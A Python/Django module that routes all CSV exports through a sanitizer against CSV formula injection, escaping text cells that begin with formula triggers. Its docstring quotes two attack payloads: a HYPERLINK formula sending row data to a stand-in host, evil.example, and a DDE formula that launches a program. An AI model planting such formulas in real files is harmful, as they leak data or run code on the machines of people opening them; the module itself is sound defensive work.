"""Every CSV the platform writes goes through this module, so none can forget to make
its cells safe to open in a spreadsheet (a test fails on a `csv.writer` anywhere else).

Formula injection (OWASP's "CSV injection"): a spreadsheet runs a cell that begins with
`=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?d="&B2)` sends the
row's data away when clicked; `@SUM(1+1)*cmd|' /C calc'!A0` asked old Excel to run a
program), and a tab or carriage return in front hides such a start. Following OWASP's
rule, a *text* cell that begins with one of these characters gets a leading apostrophe,
which spreadsheets read as "this is text" and do not show.

Numbers stay numbers: ints, floats and Decimals are written as they are (a longitude of
-3.7 is data, not a formula), and so is a text cell that is exactly a plain decimal
number ("-3", "+2.5", "1e-3"), which no spreadsheet can run. Anything else that begins
with a trigger, a phone number "+254 ..." included, is neutralised: an apostrophe in a
phone number is the price of never running a formula. JSON and GeoJSON exports are not
touched: they are exact, and nothing executes them.
"""

import csv
import io
import re
from collections.abc import Iterable

from django.http import HttpResponse

CONTENT_TYPE = "text/csv; charset=utf-8"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def safe_cell(value):
    """`value` as a spreadsheet may open it without running anything."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return f"'{value}"
    return value


class Writer:
    """`csv.writer` with every cell passed through `safe_cell`; lines end with "\\n"."""

    def __init__(self, out):
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def text(rows: Iterable[Iterable]) -> str:
    """A whole CSV document (the header is the first row) as a string."""
    out = io.StringIO()
    Writer(out).writerows(rows)
    return out.getvalue()


def response(rows: Iterable[Iterable], filename: str) -> HttpResponse:
    """A CSV download named `filename`."""
    answer = HttpResponse(text(rows), content_type=CONTENT_TYPE)
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    return answer
